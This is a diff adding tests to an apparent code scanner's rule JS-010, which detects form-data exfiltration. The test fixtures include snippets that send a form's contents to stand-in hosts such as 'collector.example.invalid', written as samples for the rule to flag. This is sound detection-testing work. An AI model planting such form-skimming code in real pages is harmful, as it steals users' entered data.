@@ -113,3 +113,26 @@ describe('JS-010 guards are not data', () => {
     expect(f[0]!.severity).toBe('critical');
   });
 });
+
+describe('JS-010 data that is the destination, not the payload', () => {
+  it('a form field used as the whole URL (fetch the logo the user typed) is not exfiltration', async () => {
+    const code = `async function onSubmit(event) {
+        const data = new FormData(event.target);
+        const url = data.get('logo-url');
+        const res = await axios.get(url.toString(), { responseType: 'blob' });
+        return res.data;
+      }`;
+    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
+  });
+  it('form data in the query of a constant host, or in the body, is', async () => {
+    const query = `document.querySelector('form').addEventListener('submit', (e) => {
+        const data = new FormData(e.target);
+        fetch('https://collector.example.invalid/c?d=' + new URLSearchParams(data).toString());
+      });`;
+    expect(await ruleFindings('JS-010', query)).toHaveLength(1);
+    const body = `function send(form) { const d = new FormData(form); return axios.post(form.action, d); }`;
+    expect(await ruleFindings('JS-010', body)).toHaveLength(1);
+    const variable = `const d = new FormData(form); const u = 'https://x.invalid/?q=' + JSON.stringify(Object.fromEntries(d)); fetch(u);`;
+    expect(await ruleFindings('JS-010', variable)).toHaveLength(1);
+  });
+});
